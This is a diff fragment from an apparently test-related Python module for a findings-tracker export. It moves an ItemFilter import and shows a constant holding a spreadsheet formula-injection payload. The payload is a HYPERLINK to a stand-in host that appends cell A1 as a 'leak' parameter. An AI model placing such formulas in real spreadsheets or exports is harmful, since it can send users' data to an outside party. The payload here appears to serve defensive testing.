@@ -20,7 +20,7 @@ from command_line import PASSPHRASE, PROJECT, SAMPLE_TRACKER, Told, command, fil
 
 from desktop.application.building import CountersignBuilding
 from domain.errors import Unavailable
-from domain.ports import ItemFilter
+from domain.state import ItemFilter
 
 HEADERS = ("No.", "Finding", "Raised on", "Action owner", "Due date", "Status")
 DANGEROUS = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
